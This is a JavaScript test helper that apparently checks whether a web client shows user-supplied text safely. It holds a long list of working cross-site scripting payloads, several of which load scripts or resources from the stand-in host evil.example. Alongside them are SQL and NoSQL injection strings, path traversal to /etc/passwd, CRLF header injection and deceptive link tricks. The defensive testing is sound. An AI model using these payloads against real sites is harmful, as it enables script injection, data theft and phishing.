// SPDX-License-Identifier: MIT
// What people with bad intentions write, and how it shows when a page took it for more than text. Whatever runs calls
// `alert`, which is a dialog, or `__xss`, which is an error in the console; either fails the test, like a violation of
// the page's policy.
import { eventually } from './wait.mjs'

const table = {
  tags: [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<script type=module>import("//evil.example/x.js")</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script/x>alert(1)</script/x>',
    '<iframe src=javascript:alert(1)></iframe>',
    '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src=//evil.example/x.swf>',
    '<base href=//evil.example/>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<link rel=preload as=image href=//evil.example/x.png>',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    '<form action=//evil.example/><button>press</button></form>',
    '<button formaction=javascript:alert(1)>press</button>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<plaintext>',
    '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '</textarea></title></style></script><script>alert(1)</script>',
    '<dialog open>closed</dialog>',
    '<portal src=//evil.example/></portal>',
  ],
  handlers: [
    '<img src=x onerror=alert(1)>',
    '<img src=x onerror=alert(1)//',
    '<IMG SRC=x OnErRoR="__xss()">',
    '<img/src/onerror=alert(1)>',
    '<img src=x:x onerror\n=alert(1)>',
    '<image src=//evil.example/x.png onerror=alert(1)>',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)></audio>',
    '<marquee onstart=alert(1)>',
    '<div onpointerover=alert(1)>here</div>',
    '<p style="animation-name:x" onanimationstart=alert(1)>',
    '<x contenteditable onblur=alert(1) tabindex=1>here',
    '"><img src=x onerror=alert(1)>',
    '\' onmouseover=alert(1) x=\'',
    '" autofocus onfocus=alert(1) x="',
    'x" onclick="alert(1)',
  ],
  addresses: [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'javascript&colon;alert(1)',
    '&#106;&#97;&#118;&#97;script:alert(1)',
    'javascript:/*--></title></style></textarea></script></xmp><svg/onload=alert(1)>',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'blob:https://evil.example/1',
    'file:///etc/passwd',
    'intent://evil.example/#Intent;scheme=https;end',
    'view-source:https://evil.example/',
    '//evil.example/x',
    '\\\\evil.example\\share',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
  ],
  drawings: [
    '<svg onload=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href=data:,alert(1) /></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set attributeName=href to=javascript:alert(1)>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<svg><image href=//evil.example/x.png onerror=alert(1)></svg>',
    '<svg><style>@import "//evil.example/x.css"</style></svg>',
    '<math><maction xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  ],
  // Text that a browser reads in another way the second time.
  mutations: [
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<style><!--</style><img src=x onerror=alert(1)>-->',
    '<table><td><script>alert(1)</script>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  ],
  templates: [
    '{{constructor.constructor("alert(1)")()}}',
    '{{7+7}}',
    '${alert(1)}',
    '<%= 7+7 %>',
    '#{7+7}',
    '{{{"a".constructor.prototype.charAt=[].join}}}',
    '<div v-html="alert(1)">x</div>',
    '<component :is="\'script\'">alert(1)</component>',
    '[[constructor.constructor("alert(1)")()]]',
    '%s %d %n %x $& $1 $` $\'',
  ],
  styles: [
    '<div style="position:fixed;inset:0;z-index:9999;background:red">caught</div>',
    '<div style="background:url(//evil.example/x.png)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '}</style><script>alert(1)</script>',
    '} body { display: none } .x {',
    'red;background:url(//evil.example/x.png)',
  ],
  // What is special to languages and stores.
  words: [
    "'; DROP TABLE user; --",
    '" OR "1"="1',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'null',
    'undefined',
    '../../../../etc/passwd',
    '{"$gt":""}',
    'a\r\nSet-Cookie: x=y',
  ],
}

// Shown as markup, or with signs left out: how is not looked at, only that nothing else comes of it.
const loose = {
  markup: [
    '[x](javascript:alert(1))',
    '[x](JAVASCRIPT:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](https://evil.example/"onmouseover="alert(1))',
    '![x](javascript:alert(1))',
    '![x](//evil.example/x.png)',
    '![x](https://evil.example/x.png"onerror="alert(1))',
    '[https://bank.example](https://evil.example)',
    '[![x](x)](javascript:alert(1))',
    '[x]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '<https://evil.example/"><img/src=x onerror=alert(1)>',
    '**<b onclick=alert(1)>bold</b>**',
    '`<img src=x onerror=alert(1)>`',
    '```html\n<img src=x onerror=alert(1)>\n```',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    '> <img src=x onerror=alert(1)>',
    '- <img src=x onerror=alert(1)>',
    '# <img src=x onerror=alert(1)>',
    '__proto__',
  ],
  links: [
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'onmouseover='alert(1)",
    'https://example.org/<script>alert(1)</script>',
    'https://user:password@evil.example/',
    'https://example.org@evil.example/',
    'https://xn--80ak6aa92e.example/',
    'https://аррӏе.example/',
    'https://exam\u200bple.org/',
    'https://example.org\u2044evil.example/',
    'https://[::1]/"><svg onload=alert(1)>',
    'https://example.org/\u202egpj.exe',
    'hTTps://example.org/?q=<svg/onload=alert(1)>#"onclick=alert(1)',
  ],
  unseen: [
    '\u202egnp.exe',
    '\u2067<img src=x onerror=alert(1)>\u2069',
    '<\u200bscript>alert(1)</script>',
    '\ufeff<script>alert(1)</script>',
    '\u0000<script>alert(1)</script>',
    '<scr\u0000ipt>alert(1)</script>',
    '\u001b[31mred\u0007',
    `Z${'\u0301'.repeat(200)}`,
    '\u2028alert(1)//',
    '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67'.repeat(30),
  ],
}

// Each with the text that must be there to be read; undefined: any.
export const texts = [
  ...Object.values(table).flat().map((text) => ({ text, shown: text.trim().replace(/\s+/g, ' ') })),
  ...Object.values(loose).flat().map((text) => ({ text, shown: undefined })),
]

// For fields that hold little: one of the nastiest, and a number that is found again.
const short = [
  '<img src=x onerror=__xss()>',
  '"><svg/onload=__xss()>',
  '</title><script>__xss()</script>',
  "'><iframe srcdoc=<script>__xss()</script>>",
  '{{constructor.constructor("__xss()")()}}',
  '<math><style><img src=x onerror=__xss()>',
  '<a href=javascript:__xss()>x</a>',
  '" autofocus onfocus=__xss() x="',
]

export function minting() {
  let serial = 0
  return () => {
    serial++
    return `${short[serial % short.length]} ${serial}`
  }
}

// Runs before every page: what a payload calls. And whatever is asked of another host is a problem.
export async function watch(person, url) {
  const own = new URL(url).host
  await person.context.addInitScript(() => {
    globalThis.__xss = () => console.error('a hostile text ran')
  })
  person.context.on('request', (request) => {
    const { protocol, host } = new URL(request.url())
    if (!['data:', 'blob:', 'about:'].includes(protocol) && host !== own) person.problems.push(`${person.name}: asked ${request.url()}`)
  })
  await person.page.reload()
}

// In the page: elements and attributes that this client has none of.
function strange() {
  const found = []
  const never = 'iframe,frame,object,embed,base,math,marquee,applet,portal,plaintext,xmp,noembed,template,foreignObject,animate,set,mglyph,:not(body) > noscript'
  for (const one of document.querySelectorAll(`${never},body :is(script:not([src]),style,link,meta,title:not(svg title))`)) found.push(one.outerHTML.slice(0, 200))
  const leads = ['href', 'xlink:href', 'src', 'srcset', 'srcdoc', 'action', 'formaction', 'data', 'poster']
  for (const one of document.querySelectorAll('*')) {
    for (const { name, value } of one.attributes) {
      if (name.startsWith('on') || name === 'srcdoc') found.push(`${one.localName} ${name}=${value}`)
      if (name === 'style' && /url\(\s*["']?(?!blob:|data:image\/|\/)/i.test(value)) found.push(`${one.localName} style=${value}`)
      if (!leads.includes(name)) continue
      const to = URL.canParse(value, location.href) ? new URL(value, location.href) : undefined
      const here = to && (to.origin === location.origin || to.protocol === 'blob:' || value.startsWith('data:image/'))
      if (!here && !(one.localName === 'a' && /^https?:$/.test(to?.protocol ?? ''))) found.push(`${one.localName} ${name}=${value}`)
    }
  }
  return found
}

// Nothing of what is on the page now came to be by a text.
export async function staysText(person, screen) {
  const found = await person.page.evaluate(strange)
  if (found.length > 0) throw new Error(`${screen}: texts became a part of the page:\n${found.join('\n')}`)
  const [width, shown] = await person.page.evaluate(() => [document.documentElement.scrollWidth - innerWidth, getComputedStyle(document.body).display])
  if (width > 0 || shown === 'none') throw new Error(`${screen}: texts changed its look (${width} px wider, ${shown})`)
  if (person.problems.length > 0) throw new Error(`${screen}: ${person.problems.join('\n')}`)
}

// The words are there to be read, each in one of the places: [handle, text] pairs. Fields show what they hold.
export async function reads(person, screen, places) {
  for (const [id, text] of places) {
    await eventually(`${screen} shows ${JSON.stringify(text)} (${id})`, async () => {
      const shown = await person.at(id).evaluateAll((all) => all.filter((one) => one.getClientRects().length > 0).map((one) => ('value' in one && one.localName !== 'button' && one.localName !== 'li' ? one.value : one.textContent)))
      const flat = shown.map((one) => one.replace(/\s+/g, ' '))
      return flat.some((one) => one.includes(text)) || Promise.reject(new Error(flat.join(' | ').slice(0, 2_000)))
    })
  }
  await staysText(person, screen)
}
